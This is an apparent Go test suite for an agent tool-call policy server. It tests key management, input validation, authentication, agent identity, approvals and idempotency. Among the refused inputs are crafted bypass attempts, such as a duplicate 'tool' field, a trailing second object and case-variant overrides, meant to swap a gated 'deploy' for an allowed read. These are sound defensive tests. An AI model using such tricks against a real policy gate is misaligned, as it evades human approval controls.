		{"empty name", map[string]any{"name": "", "roles": []string{"agent"}}, "name"},
		{"unknown field", `{"name":"x3","roles":["agent"],"role":"admin"}`, `"role"`},
		{"bad tenant by root", map[string]any{"name": "x4", "tenant": "Not A Tenant", "roles": []string{"agent"}}, "tenant"},
		{"malformed JSON", `{"name":`, ""},
	}
	for _, c := range bad {
		t.Run("bad request: "+c.name, func(t *testing.T) {
			key := "acme-admin"
			if strings.Contains(c.name, "root") {
				key = "root"
			}
			msg := wantError(t, e.do("POST", "/v1/keys", key, c.body), http.StatusBadRequest, rein.ECodeBadRequest)
			if !strings.Contains(msg, c.want) {
				t.Errorf("message %q does not mention %q", msg, c.want)
			}
		})
	}

	t.Run("revoke: 204, then 401, listed as revoked", func(t *testing.T) {
		wantStatus(t, e.do("DELETE", "/v1/keys/"+e.key("ci-bot").ID, "acme-admin", nil), http.StatusNoContent)
		wantError(t, e.do("POST", "/v1/check", "ci-bot", map[string]any{"tool": "fs.read"}), http.StatusUnauthorized, rein.ECodeUnauthenticated)
		r := e.do("GET", "/v1/keys", "acme-admin", nil)
		wantStatus(t, r, 200)
		found := false
		for _, k := range listKeys(t, r) {
			if str(k, "id") == e.key("ci-bot").ID {
				found = true
				if k["revoked_at"] == nil {
					t.Errorf("revoked key is listed with revoked_at null")
				}
			}
		}
		if !found {
			t.Errorf("revoked key is not listed")
		}
	})
	t.Run("after a revoke the name is free again", func(t *testing.T) {
		wantStatus(t, e.do("POST", "/v1/keys", "acme-admin", map[string]any{"name": "ci-bot", "roles": []string{"agent"}}), http.StatusCreated)
	})
	t.Run("the last admin of tenant * cannot be revoked", func(t *testing.T) {
		wantError(t, e.do("DELETE", "/v1/keys/"+e.key("root").ID, "root", nil), http.StatusConflict, rein.ECodeConflict)
		wantStatus(t, e.do("GET", "/v1/keys", "root", nil), 200)
	})
}

// TestLastRootAdminSurvivesConcurrentRevokes: the last admin key of tenant
// "*" cannot be revoked (409). Two "*" admins revoking each other at the same
// time must not leave the deployment with none.
func TestLastRootAdminSurvivesConcurrentRevokes(t *testing.T) {
	for round := 0; round < 20; round++ {
		e := newEnv(t, globalPolicy)
		other := e.addKey("root2", rein.AllTenants, rein.RoleAdmin)
		pairs := [][2]string{{"root", other.ID}, {"root2", e.key("root").ID}}
		status := make([]int, len(pairs))
		start := make(chan struct{})
		var wg sync.WaitGroup
		for i, p := range pairs {
			wg.Add(1)
			go func(i int, by, id string) {
				defer wg.Done()
				<-start
				status[i] = e.do("DELETE", "/v1/keys/"+id, by, nil).Status
			}(i, p[0], p[1])
		}
		close(start)
		wg.Wait()
		keys, err := e.store.Keys(e.ctx, rein.AllTenants)
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		for _, k := range keys {
			if k.Tenant == rein.AllTenants && k.RevokedAt == nil && k.Has(rein.RoleAdmin) {
				n++
			}
		}
		if n == 0 {
			t.Fatalf("round %d: two \"*\" admins revoking each other concurrently both got %v; no active admin of tenant \"*\" is left (want one revoke to fail with 409 or 401)",
				round, status)
		}
	}
}

// ---------------------------------------------------------------------------
// 3. Bad input on POST /v1/check.
// ---------------------------------------------------------------------------

func TestCheckBadInput(t *testing.T) {
	e := newEnv(t, globalPolicy)

	// A body of exactly MaxBodyBytes is accepted; one byte more is 413.
	padded := func(size int) string {
		head, tail := `{"tool":"fs.read","args":{"pad":"`, `"}}`
		return head + strings.Repeat("a", size-len(head)-len(tail)) + tail
	}

	cases := []struct {
		name   string
		body   string
		status int
		code   string
		// the message must contain each of these
		mention []string
	}{
		{"malformed JSON: cut short", `{"tool": "fs.read"`, 400, rein.ECodeBadRequest, nil},
		{"malformed JSON: bare word", `{"tool": fs.read}`, 400, rein.ECodeBadRequest, nil},
		{"malformed JSON: single quotes", `{'tool': 'fs.read'}`, 400, rein.ECodeBadRequest, nil},
		{"empty body", ``, 400, rein.ECodeBadRequest, nil},
		{"whitespace body", "  \n ", 400, rein.ECodeBadRequest, nil},
		{"body is an array", `[{"tool":"fs.read"}]`, 400, rein.ECodeBadRequest, nil},
		{"body is a string", `"fs.read"`, 400, rein.ECodeBadRequest, nil},
		{"body is null", `null`, 400, rein.ECodeBadRequest, []string{"tool"}},
		{"invalid UTF-8", "{\"tool\":\"fs.read\xff\"}", 400, rein.ECodeBadRequest, nil},
		{"unknown field", `{"tool":"fs.read","toool":"x"}`, 400, rein.ECodeBadRequest, []string{`"toool"`}},
		{"unknown field wait", `{"tool":"fs.read","wait":100}`, 400, rein.ECodeBadRequest, []string{`"wait"`}},
		{"duplicate key in args", `{"tool":"fs.read","args":{"path":"a","path":"b"}}`, 400, rein.ECodeBadRequest, []string{`"path"`}},
		{"duplicate key deep in args", `{"tool":"fs.read","args":{"x":[{"k":1},{"k":1,"k":2}]}}`, 400, rein.ECodeBadRequest, []string{`"k"`}},
		{"duplicate key via escape", `{"tool":"fs.read","args":{"a":1,"\u0061":2}}`, 400, rein.ECodeBadRequest, nil},
		{"duplicate top-level field", `{"tool":"fs.read","tool":"deploy"}`, 400, rein.ECodeBadRequest, []string{`"tool"`}},
		{"args is an array", `{"tool":"fs.read","args":[1,2]}`, 400, rein.ECodeBadRequest, []string{"args"}},
		{"args is a string", `{"tool":"fs.read","args":"path=a"}`, 400, rein.ECodeBadRequest, []string{"args"}},
		{"args is a number", `{"tool":"fs.read","args":1}`, 400, rein.ECodeBadRequest, []string{"args"}},
		{"args is true", `{"tool":"fs.read","args":true}`, 400, rein.ECodeBadRequest, []string{"args"}},
		{"missing tool", `{"args":{}}`, 400, rein.ECodeBadRequest, []string{"tool"}},
		{"empty tool", `{"tool":""}`, 400, rein.ECodeBadRequest, []string{"tool"}},
		{"tool is a number", `{"tool":1}`, 400, rein.ECodeBadRequest, []string{"tool"}},
		{"tool over 256 chars", `{"tool":"` + strings.Repeat("t", 257) + `"}`, 400, rein.ECodeBadRequest, []string{"tool", "256"}},
		{"tool with a control character", `{"tool":"fs.read\n"}`, 400, rein.ECodeBadRequest, []string{"tool"}},
		{"session over 256 chars", `{"tool":"fs.read","session":"` + strings.Repeat("s", 257) + `"}`, 400, rein.ECodeBadRequest, []string{"session"}},
		{"wait_ms negative", `{"tool":"fs.read","wait_ms":-1}`, 400, rein.ECodeBadRequest, []string{"wait_ms"}},
		{"wait_ms over 300000", `{"tool":"fs.read","wait_ms":300001}`, 400, rein.ECodeBadRequest, []string{"wait_ms"}},
		{"wait_ms not an integer", `{"tool":"fs.read","wait_ms":1.5}`, 400, rein.ECodeBadRequest, []string{"wait_ms"}},
		{"wait_ms a string", `{"tool":"fs.read","wait_ms":"10"}`, 400, rein.ECodeBadRequest, []string{"wait_ms"}},
		{"cost negative", `{"tool":"fs.read","cost":-0.5}`, 400, rein.ECodeBadRequest, []string{"cost"}},
		{"intent over 8192 bytes", `{"tool":"fs.read","intent":"` + strings.Repeat("i", 8193) + `"}`, 400, rein.ECodeBadRequest, []string{"intent"}},
		{"label value not a string", `{"tool":"fs.read","labels":{"env":1}}`, 400, rein.ECodeBadRequest, []string{"labels"}},
		{"label with an empty key", `{"tool":"fs.read","labels":{"":"x"}}`, 400, rein.ECodeBadRequest, []string{"label"}},
		{"request_id over 256 chars", `{"tool":"fs.read","request_id":"` + strings.Repeat("r", 257) + `"}`, 400, rein.ECodeBadRequest, []string{"request_id"}},
		{"agent not a string", `{"tool":"fs.read","agent":["acme-agent"]}`, 400, rein.ECodeBadRequest, []string{"agent"}},
		{"integer over 2^53 in args", `{"tool":"fs.read","args":{"n":9007199254740993}}`, 400, rein.ECodeBadRequest, []string{"9007199254740993"}},
		{"integer under -2^53 in args", `{"tool":"fs.read","args":{"n":-9007199254740993}}`, 400, rein.ECodeBadRequest, nil},
		{"huge integer deep in args", `{"tool":"fs.read","args":{"a":[{"n":123456789012345678901234567890}]}}`, 400, rein.ECodeBadRequest, nil},
		{"number out of range in args", `{"tool":"fs.read","args":{"n":1e400}}`, 400, rein.ECodeBadRequest, nil},
		{"trailing object", `{"tool":"fs.read"} {"tool":"deploy"}`, 400, rein.ECodeBadRequest, nil},
		{"trailing garbage", `{"tool":"fs.read"}x`, 400, rein.ECodeBadRequest, nil},
		{"trailing bracket", `{"tool":"fs.read"}]`, 400, rein.ECodeBadRequest, nil},
		{"body over 1 MiB", padded(reinhttp.MaxBodyBytes + 1), 413, rein.ECodeTooLarge, nil},
		{"body far over 1 MiB", padded(3 * reinhttp.MaxBodyBytes), 413, rein.ECodeTooLarge, nil},
	}
	before := e.entryCount()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			msg := wantError(t, e.do("POST", "/v1/check", "acme-agent", c.body), c.status, c.code)
			for _, m := range c.mention {
				if !strings.Contains(msg, m) {
					t.Errorf("message %q does not mention %s", msg, m)
				}
			}
		})
	}
	if got := e.entryCount(); got != before {
		t.Errorf("refused requests wrote %d audit entries", got-before)
	}

	accepted := []struct{ name, body string }{
		{"args null means {}", `{"tool":"fs.read","args":null}`},
		{"args omitted", `{"tool":"fs.read"}`},
		{"same key in sibling objects", `{"tool":"fs.read","args":{"x":{"k":1},"y":{"k":1}}}`},
		{"integer 2^53 in args", `{"tool":"fs.read","args":{"n":9007199254740992}}`},
		{"integer -2^53 in args", `{"tool":"fs.read","args":{"n":-9007199254740992}}`},
		{"large float in args", `{"tool":"fs.read","args":{"n":1e300}}`},
		{"tool of 256 chars", `{"tool":"` + strings.Repeat("t", 256) + `"}`},
		{"wait_ms 0", `{"tool":"fs.read","wait_ms":0}`},
		{"wait_ms 300000", `{"tool":"fs.read","wait_ms":300000}`},
		{"trailing whitespace", "{\"tool\":\"fs.read\"}\n\t "},
		{"every field", `{"tool":"fs.read","args":{"path":"a"},"session":"s-1","agent":"acme-agent","intent":"read a","labels":{"env":"dev"},"cost":0.25,"request_id":"every-field","wait_ms":10}`},
		{"body of exactly 1 MiB", padded(reinhttp.MaxBodyBytes)},
	}
	for _, c := range accepted {
		t.Run("accepted: "+c.name, func(t *testing.T) {
			r := e.do("POST", "/v1/check", "acme-agent", c.body)
			wantStatus(t, r, 200)
			res := r.object(t)
			if d := str(res, "decision"); d == "" {
				t.Errorf("no decision: %s", r.Body)
			}
		})
	}

	t.Run("the server still answers a good check", func(t *testing.T) {
		wantDecision(t, e.check("acme-agent", map[string]any{"tool": "fs.read", "args": map[string]any{"path": "README.md"}}), "allow", "files-read")
	})
}

// TestCheckToolLengthCountsCharacters: api.md limits tool to 1..256 chars,
// so a tool name of 256 non-ASCII characters is within the limit.
func TestCheckToolLengthCountsCharacters(t *testing.T) {
	e := newEnv(t, globalPolicy)
	tool := strings.Repeat("é", 256) // 256 characters, 512 bytes
	r := e.do("POST", "/v1/check", "acme-agent", map[string]any{"tool": tool})
	if r.Status != http.StatusOK {
		t.Fatalf("a tool name of 256 characters (%d bytes) answers %d, want 200 (api.md: tool is 1..256 chars); body: %s",
			len(tool), r.Status, r.Body)
	}
	wantDecision(t, r.object(t), "deny", "")
	// 257 characters is over the limit.
	wantError(t, e.do("POST", "/v1/check", "acme-agent", map[string]any{"tool": tool + "é"}), 400, rein.ECodeBadRequest)
}

// TestCheckFieldNamesAreExact: field names are matched exactly. A field
// spelled in another case is an unknown field (api.md: unknown fields are
// rejected), and in particular it can never stand in for, or override, the
// real one.
func TestCheckFieldNamesAreExact(t *testing.T) {
	e := newEnv(t, globalPolicy)
	cases := []struct{ name, body, field string }{
		{"TOOL instead of tool", `{"TOOL":"fs.read"}`, "TOOL"},
		{"Tool overrides tool", `{"tool":"fs.read","Tool":"deploy"}`, "Tool"},
		{"ARGS overrides args", `{"tool":"fs.read","args":{"path":"a"},"ARGS":{"path":"b"}}`, "ARGS"},
		{"Agent instead of agent", `{"tool":"fs.read","Agent":"acme-agent"}`, "Agent"},
		{"Wait_MS instead of wait_ms", `{"tool":"fs.read","Wait_MS":5}`, "Wait_MS"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := e.do("POST", "/v1/check", "acme-agent", c.body)
			if r.Status == http.StatusOK {
				res := r.object(t)
				t.Fatalf("body %s was accepted (decision %q, rule %q); want 400 naming the unknown field %q",
					c.body, str(res, "decision"), str(res, "rule"), c.field)
			}
			msg := wantError(t, r, http.StatusBadRequest, rein.ECodeBadRequest)
			if !strings.Contains(msg, c.field) {
				t.Errorf("message %q does not name the field %q", msg, c.field)
			}
		})
	}
}

// ---------------------------------------------------------------------------
// Authentication and identity.
// ---------------------------------------------------------------------------

func TestAuthentication(t *testing.T) {
	e := newEnv(t, globalPolicy)
	good := e.key("acme-agent").Secret

	// A key created and revoked through the API.
	r := e.do("POST", "/v1/keys", "acme-admin", map[string]any{"name": "short-lived", "roles": []string{"agent"}})
	wantStatus(t, r, http.StatusCreated)
	created := r.object(t)
	revokedSecret := str(created, "key")
	h := http.Header{"Authorization": {"Bearer " + revokedSecret}}
	wantStatus(t, e.send("POST", "/v1/check", h, map[string]any{"tool": "fs.read"}), 200)
	wantStatus(t, e.do("DELETE", "/v1/keys/"+str(created, "id"), "acme-admin", nil), http.StatusNoContent)

	cases := []struct {
		name   string
		auth   []string // Authorization header values; none when empty
		status int
	}{
		{"missing Authorization", nil, 401},
		{"empty Authorization", []string{""}, 401},
		{"Basic scheme", []string{"Basic " + good}, 401},
		{"Token scheme", []string{"Token " + good}, 401},
		{"no scheme", []string{good}, 401},
		{"Bearer without key", []string{"Bearer"}, 401},
		{"Bearer with blank key", []string{"Bearer    "}, 401},
		{"unknown key", []string{"Bearer rein_thisisnotakeythisisnotakey00"}, 401},
		{"hash of a key", []string{"Bearer " + rein.HashSecret(good)}, 401},
		{"truncated key", []string{"Bearer " + good[:len(good)-1]}, 401},
		{"revoked key", []string{"Bearer " + revokedSecret}, 401},
		{"good key", []string{"Bearer " + good}, 200},
		{"scheme is case-insensitive", []string{"bearer " + good}, 200},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			h := http.Header{}
			for _, v := range c.auth {
				h.Add("Authorization", v)
			}
			before := e.entryCount()
			r := e.send("POST", "/v1/check", h, map[string]any{"tool": "fs.read"})
			if c.status != 200 {
				wantError(t, r, c.status, rein.ECodeUnauthenticated)
				if e.entryCount() != before {
					t.Errorf("an unauthenticated check was recorded")
				}
				return
			}
			wantStatus(t, r, 200)
		})
	}

	// Authentication comes before everything else: a missing key is 401
	// whatever the endpoint, the role it needs or the object it names.
	for _, c := range []struct{ method, path string }{
		{"GET", "/v1/checks/chk_00000000000000000000000000"},
		{"GET", "/v1/policy"},
		{"PUT", "/v1/policy"},
		{"POST", "/v1/policy/simulate"},
		{"POST", "/v1/keys"},
		{"GET", "/v1/keys"},
		{"DELETE", "/v1/keys/" + e.key("acme-agent").ID},
	} {
		t.Run("no key: "+c.method+" "+c.path, func(t *testing.T) {
			wantError(t, e.do(c.method, c.path, "", nil), http.StatusUnauthorized, rein.ECodeUnauthenticated)
		})
		t.Run("revoked key: "+c.method+" "+c.path, func(t *testing.T) {
			h := http.Header{"Authorization": {"Bearer " + revokedSecret}}
			wantError(t, e.send(c.method, c.path, h, nil), http.StatusUnauthorized, rein.ECodeUnauthenticated)
		})
	}
	if k, err := e.store.KeyByID(e.ctx, e.key("acme-agent").ID); err != nil || k.RevokedAt != nil {
		t.Errorf("an unauthenticated DELETE revoked a key (err %v)", err)
	}
}

func TestCheckAgentIdentity(t *testing.T) {
	e := newEnv(t, globalPolicy)
	cases := []struct {
		name, key, agent string
		status           int
		acting           string
	}{
		{"agent omitted", "acme-agent", "", 200, "acme-agent"},
		{"agent is the key name", "acme-agent", "acme-agent", 200, "acme-agent"},
		{"sub-agent", "acme-agent", "acme-agent/sub", 200, "acme-agent/sub"},
		{"sub-agent of an admin key", "acme-admin", "acme-admin/helper", 200, "acme-admin/helper"},
		{"another key's name", "acme-agent", "acme-agent2", 403, ""},
		{"another key's sub-agent", "acme-agent", "acme-agent2/sub", 403, ""},
		{"unrelated name", "acme-agent", "builder", 403, ""},
		{"key name as a prefix", "acme-agent", "acme-agentx", 403, ""},
		{"empty sub-agent", "acme-agent", "acme-agent/", 403, ""},
		{"other case", "acme-agent", "ACME-AGENT", 403, ""},
		{"a globex name", "acme-agent", "globex-agent", 403, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			body := map[string]any{"tool": "fs.read", "args": map[string]any{"path": "x"}}
			if c.agent != "" {
				body["agent"] = c.agent
			}
			before := e.entryCount()
			r := e.do("POST", "/v1/check", c.key, body)
			if c.status == 403 {
				wantError(t, r, http.StatusForbidden, rein.ECodeForbidden)
				if e.entryCount() != before {
					t.Errorf("a check with a foreign agent was recorded")
				}
				return
			}
			wantStatus(t, r, 200)
			res := r.object(t)
			if want := actionHash(t, "acme", c.acting, "", "fs.read", `{"path":"x"}`); str(res, "action_hash") != want {
				t.Errorf("action_hash %s, want %s (agent %q)", str(res, "action_hash"), want, c.acting)
			}
			stored := e.do("GET", "/v1/checks/"+str(res, "id"), c.key, nil)
			wantStatus(t, stored, 200)
			if got := str(stored.object(t)["check"].(map[string]any), "agent"); got != c.acting {
				t.Errorf("stored agent %q, want %q", got, c.acting)
			}
		})
	}
}

// ---------------------------------------------------------------------------
// 4. Check answers.
// ---------------------------------------------------------------------------

var checkResponseFields = []string{"id", "decision", "reason", "rule", "policy_version", "risk", "action_hash",
	"args", "approval", "retry_after_ms", "audit_index"}

func TestCheckResponseShape(t *testing.T) {
	e := newEnv(t, globalPolicy)
	before := e.entryCount()
	r := e.do("POST", "/v1/check", "acme-agent", `{"tool":"fs.read","args":{"path":"README.md","n":1.0},"session":"run-1"}`)
	wantStatus(t, r, 200)
	if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
		t.Errorf("Content-Type %q, want application/json", ct)
	}
	res := r.object(t)
	wantFields(t, "check answer", res, checkResponseFields...)
	wantDecision(t, res, "allow", "files-read")

	if id := str(res, "id"); !strings.HasPrefix(id, "chk_") {
		t.Errorf("id %q does not start with chk_", id)
	}
	if str(res, "reason") != "reading files is fine" {
		t.Errorf("reason %q, want the rule's reason", str(res, "reason"))
	}
	if got, want := str(res, "policy_version"), sha256Version(globalPolicy); got != want {
		t.Errorf("policy_version %s, want %s", got, want)
	}
	if _, ok := res["risk"].([]any); !ok {
		t.Errorf("risk is %v (%T), want a list", res["risk"], res["risk"])
	}
	if h := str(res, "action_hash"); len(h) != len("sha256:")+64 || !strings.HasPrefix(h, "sha256:") {
		t.Errorf("action_hash %q is not sha256:<64 hex>", h)
	}
	args, _ := json.Marshal(res["args"])
	if !sameJSON(t, args, []byte(`{"path":"README.md","n":1}`)) {
		t.Errorf("args %s, want the request's", args)
	}
	if res["approval"] != nil {
		t.Errorf("approval %v, want null for allow", res["approval"])
	}
	if res["retry_after_ms"] != nil {
		t.Errorf("retry_after_ms %v, want null for allow", res["retry_after_ms"])
	}

	// The decision is in the audit log at audit_index before the answer.
	idx := integer(t, res["audit_index"])
	if idx < int64(before) {
		t.Errorf("audit_index %d is below the log size %d before the check", idx, before)
	}
	entry := e.entry(idx)
	if str(entry, "kind") != rein.KindCheck || str(entry, "subject") != str(res, "id") || str(entry, "tenant") != "acme" {
		t.Errorf("audit entry %d is %s %s (tenant %s), want the check entry of %s",
			idx, str(entry, "kind"), str(entry, "subject"), str(entry, "tenant"), str(res, "id"))
	}
	if data, _ := entry["data"].(map[string]any); data == nil || str(data, "decision") != "allow" || str(data, "action_hash") != str(res, "action_hash") {
		t.Errorf("audit entry %d does not hold the decision: %v", idx, entry["data"])
	}

	t.Run("deny has the same shape", func(t *testing.T) {
		res := e.check("acme-agent", map[string]any{"tool": "danger"})
		wantFields(t, "deny answer", res, checkResponseFields...)
		wantDecision(t, res, "deny", "no-danger")
		if str(res, "reason") != "danger is never allowed" {
			t.Errorf("reason %q", str(res, "reason"))
		}
	})
}

func TestCheckAskAndApproval(t *testing.T) {
	e := newEnv(t, globalPolicy)
	body := map[string]any{"tool": "deploy", "args": map[string]any{"service": "api"}, "session": "run-7"}

	before := e.entryCount()
	first := e.check("acme-agent", body)
	wantFields(t, "ask answer", first, checkResponseFields...)
	wantDecision(t, first, "ask", "deploy-review")
	if str(first, "reason") != "deployments need an approval" {
		t.Errorf("reason %q", str(first, "reason"))
	}
	if got := e.entryCount() - before; got != 2 {
		t.Errorf("a new ask wrote %d audit entries, want 2 (check, approval.created)", got)
	}
	apr, ok := first["approval"].(map[string]any)
	if !ok {
		t.Fatalf("ask has no approval object: %v", first["approval"])
	}
	wantFields(t, "approval", apr, "id", "status", "expires_at", "quorum", "approvals", "url")
	aprID := str(apr, "id")
	if !strings.HasPrefix(aprID, "apr_") {
		t.Errorf("approval id %q does not start with apr_", aprID)
	}
	if str(apr, "status") != "pending" {
		t.Errorf("approval status %q, want pending", str(apr, "status"))
	}
	if q := integer(t, apr["quorum"]); q != 2 {
		t.Errorf("quorum %d, want 2 (the rule's)", q)
	}
	if n := integer(t, apr["approvals"]); n != 0 {
		t.Errorf("approvals %d, want 0", n)
	}
	if u := str(apr, "url"); u != e.srv.URL+"/approvals/"+aprID {
		t.Errorf("url %q, want %q", u, e.srv.URL+"/approvals/"+aprID)
	}
	exp, err := time.Parse(time.RFC3339Nano, str(apr, "expires_at"))
	if err != nil {
		t.Errorf("expires_at %q: %v", str(apr, "expires_at"), err)
	} else if d := time.Until(exp); d < 14*time.Minute || d > 16*time.Minute {
		t.Errorf("expires_at is %v away, want the default pending TTL of 15m", d)
	}

	t.Run("re-submission returns the same approval", func(t *testing.T) {
		before := e.entryCount()
		again := e.check("acme-agent", body)
		wantDecision(t, again, "ask", "deploy-review")
		if str(again, "id") == str(first, "id") {
			t.Errorf("re-submission without request_id reused check id %s", str(first, "id"))
		}
		if str(again, "action_hash") != str(first, "action_hash") {
			t.Errorf("re-submission has another action hash")
		}
		a2, _ := again["approval"].(map[string]any)
		if str(a2, "id") != aprID {
			t.Errorf("re-submission got approval %q, want the pending %q", str(a2, "id"), aprID)
		}
		if got := e.entryCount() - before; got != 1 {
			t.Errorf("re-submission wrote %d audit entries, want 1 (no second approval)", got)
		}
	})
	t.Run("other args need another approval", func(t *testing.T) {
		other := e.check("acme-agent", map[string]any{"tool": "deploy", "args": map[string]any{"service": "web"}, "session": "run-7"})
		if a, _ := other["approval"].(map[string]any); str(a, "id") == aprID || str(a, "id") == "" {
			t.Errorf("changed args got approval %q (first was %q)", str(a, "id"), aprID)
		}
	})
	t.Run("another session needs another approval", func(t *testing.T) {
		other := e.check("acme-agent", map[string]any{"tool": "deploy", "args": map[string]any{"service": "api"}, "session": "run-8"})
		if a, _ := other["approval"].(map[string]any); str(a, "id") == aprID || str(a, "id") == "" {
			t.Errorf("another session got approval %q (first was %q)", str(a, "id"), aprID)
		}
	})
	t.Run("another tenant's identical action does not share the approval", func(t *testing.T) {
		other := e.check("globex-agent", body)
		if a, _ := other["approval"].(map[string]any); str(a, "id") == aprID || str(a, "id") == "" {
			t.Errorf("globex got approval %q (acme's is %q)", str(a, "id"), aprID)
		}
	})
}

// TestConcurrentAsksShareOneApproval: api.md (Re-submission): while an
// approval is pending, the same action gets that approval and no second one
// is created. An agent or hook firing the same action twice at once must not
// get two approvals either.
func TestConcurrentAsksShareOneApproval(t *testing.T) {
	e := newEnv(t, globalPolicy)
	for round := 0; round < 10; round++ {
		session := fmt.Sprintf("burst-%d", round)
		before := e.entryCount()
		results := race(e, 6, func(i int) any { return map[string]any{"tool": "deploy", "session": session} })
		ids := map[string]bool{}
		for _, r := range results {
			wantStatus(t, r, 200)
			res := r.object(t)
			wantDecision(t, res, "ask", "deploy-review")
			a, _ := res["approval"].(map[string]any)
			ids[str(a, "id")] = true
		}
		if len(ids) != 1 {
			t.Fatalf("round %d: %d concurrent identical asks created %d pending approvals for one action hash (audit log grew by %d), want 1",
				round, len(results), len(ids), e.entryCount()-before)
		}
	}
}

func TestRequestIDIdempotency(t *testing.T) {
	e := newEnv(t, globalPolicy)

	for _, c := range []struct {
		name string
		body map[string]any
	}{
		{"allow", map[string]any{"tool": "fs.read", "args": map[string]any{"path": "a"}, "request_id": "req-allow"}},
		{"ask", map[string]any{"tool": "deploy", "args": map[string]any{"v": 1}, "request_id": "req-ask"}},
		{"deny", map[string]any{"tool": "danger", "request_id": "req-deny"}},
	} {
		t.Run("retry of "+c.name+" returns the stored answer", func(t *testing.T) {
			r1 := e.do("POST", "/v1/check", "acme-agent", c.body)
			wantStatus(t, r1, 200)
			before := e.entryCount()
			r2 := e.do("POST", "/v1/check", "acme-agent", c.body)
			wantStatus(t, r2, 200)
			if !sameJSON(t, r1.Body, r2.Body) {
				t.Errorf("retry answer differs:\nfirst: %s\nretry: %s", r1.Body, r2.Body)
			}
			if e.entryCount() != before {
				t.Errorf("the retry wrote %d audit entries, want none", e.entryCount()-before)
			}
		})
	}
	t.Run("the same request_id for another action is 409", func(t *testing.T) {
		before := e.entryCount()
		msg := wantError(t, e.do("POST", "/v1/check", "acme-agent",
			map[string]any{"tool": "fs.read", "args": map[string]any{"path": "b"}, "request_id": "req-allow"}),
			http.StatusConflict, rein.ECodeConflict)
		if !strings.Contains(msg, "req-allow") {
			t.Errorf("message %q does not name the request_id", msg)
		}
		if e.entryCount() != before {
			t.Errorf("the conflicting check was recorded")
		}
		wantError(t, e.do("POST", "/v1/check", "acme-agent", map[string]any{"tool": "deploy", "request_id": "req-deny"}),
			http.StatusConflict, rein.ECodeConflict)
	})
	t.Run("request_ids are per key", func(t *testing.T) {
		res := e.check("acme-agent2", map[string]any{"tool": "danger", "request_id": "req-allow"})
		wantDecision(t, res, "deny", "no-danger")
	})
}

// TestRequestIDConcurrentRetries: concurrent requests with one request_id
// give one decision. Those for the same action all get it; those for another
// action get 409 and never the answer to an action they did not ask about.
func TestRequestIDConcurrentRetries(t *testing.T) {
	e := newEnv(t, globalPolicy)

	t.Run("same action", func(t *testing.T) {
		before := e.entryCount()
		results := race(e, 8, func(i int) any {
			return map[string]any{"tool": "fs.read", "args": map[string]any{"path": "same"}, "request_id": "same-action"}
		})
		ids := map[string]bool{}
		for _, r := range results {
			wantStatus(t, r, 200)
			ids[str(r.object(t), "id")] = true
		}
		if len(ids) != 1 {
			t.Errorf("%d concurrent retries got %d check ids, want 1", len(results), len(ids))
		}
		if got := e.entryCount() - before; got != 1 {
			t.Errorf("%d concurrent retries wrote %d audit entries, want 1", len(results), got)
		}
	})

	t.Run("different actions", func(t *testing.T) {
		actions := []struct{ tool, args string }{
			{"fs.read", `{"path":"a"}`}, {"deploy", `{"service":"api"}`}, {"danger", `{}`}, {"fs.read", `{"path":"b"}`},
		}
		var wrong []string
		for round := 0; round < 30 && len(wrong) == 0; round++ {
			rid := fmt.Sprintf("race-%d", round)
			results := race(e, len(actions), func(i int) any {
				return fmt.Sprintf(`{"tool":%q,"args":%s,"request_id":%q}`, actions[i].tool, actions[i].args, rid)
			})
			oks := 0
			for i, r := range results {
				switch r.Status {
				case http.StatusConflict:
					wantError(t, r, http.StatusConflict, rein.ECodeConflict)
				case http.StatusOK:
					oks++
					res := r.object(t)
					want := actionHash(t, "acme", "acme-agent", "", actions[i].tool, actions[i].args)
					if str(res, "action_hash") != want {
						wrong = append(wrong, fmt.Sprintf("round %d: a check of %s %s got 200 with decision %q for another action (rule %q, action_hash %s)",
							round, actions[i].tool, actions[i].args, str(res, "decision"), str(res, "rule"), str(res, "action_hash")))
					}
				default:
					t.Fatalf("status %d; body: %s", r.Status, r.Body)
				}
			}
			if oks == 0 {
				t.Errorf("round %d: no request was answered 200", round)
			}
		}
		for _, w := range wrong {
			t.Error(w)
		}
		if len(wrong) > 0 {
			t.Errorf("concurrent checks reusing a request_id for different actions must get 409, not another action's answer")
		}
	})
}

// race sends n checks by acme-agent at once and returns the answers in order.
func race(e *env, n int, body func(i int) any) []*apiResp {
	out := make([]*apiResp, n)
	start := make(chan struct{})
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			b := body(i)
			<-start
			out[i] = e.do("POST", "/v1/check", "acme-agent", b)
		}(i)
	}
	close(start)
	wg.Wait()
	return out
}

func TestGetCheck(t *testing.T) {
	e := newEnv(t, globalPolicy)
	for _, c := range []struct {
		name     string
		body     map[string]any
		decision string
	}{
		{"allow", map[string]any{"tool": "fs.read", "args": map[string]any{"path": "a"}, "session": "s1", "intent": "look", "labels": map[string]any{"env": "dev"}}, "allow"},
		{"ask", map[string]any{"tool": "deploy"}, "ask"},
		{"deny", map[string]any{"tool": "danger"}, "deny"},
	} {
		t.Run(c.name, func(t *testing.T) {
			res := e.check("acme-agent", c.body)
			r := e.do("GET", "/v1/checks/"+str(res, "id"), "acme-agent", nil)
			wantStatus(t, r, 200)
			got := r.object(t)
			for _, f := range checkResponseFields {
				a, _ := json.Marshal(res[f])
				b, _ := json.Marshal(got[f])
				if !sameJSON(t, a, b) {
					t.Errorf("stored %s is %s, the answer had %s", f, b, a)
				}
			}
			if str(got, "decision") != c.decision {
				t.Errorf("stored decision %q, want %q", str(got, "decision"), c.decision)
			}
			if str(got, "tenant") != "acme" {
				t.Errorf("stored tenant %q, want acme", str(got, "tenant"))
			}
			in, _ := got["check"].(map[string]any)
			if str(in, "tool") != c.body["tool"] || str(in, "agent") != "acme-agent" {
				t.Errorf("stored check input %v does not match the request", in)
			}
			if _, leaked := got["key_id"]; leaked {
				t.Errorf("stored check shows key_id")
			}
		})
	}
	t.Run("unknown id", func(t *testing.T) {
		wantError(t, e.do("GET", "/v1/checks/chk_nope", "acme-admin", nil), http.StatusNotFound, rein.ECodeNotFound)
	})
}

// ---------------------------------------------------------------------------
// 5. Action hash.
// ---------------------------------------------------------------------------

func TestActionHash(t *testing.T) {
	e := newEnv(t, globalPolicy)
	cases := []struct {
		name    string
		key     string
		body    string
